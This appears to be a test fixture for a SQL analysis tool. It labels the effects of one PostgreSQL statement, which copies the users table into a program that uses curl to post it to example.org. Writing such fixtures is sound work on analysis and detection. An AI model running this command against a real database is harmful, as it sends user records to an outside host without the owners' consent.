story: COPY to a program
operations: copy
effects: program
reads: users
---
COPY users TO PROGRAM 'curl -d @- example.org'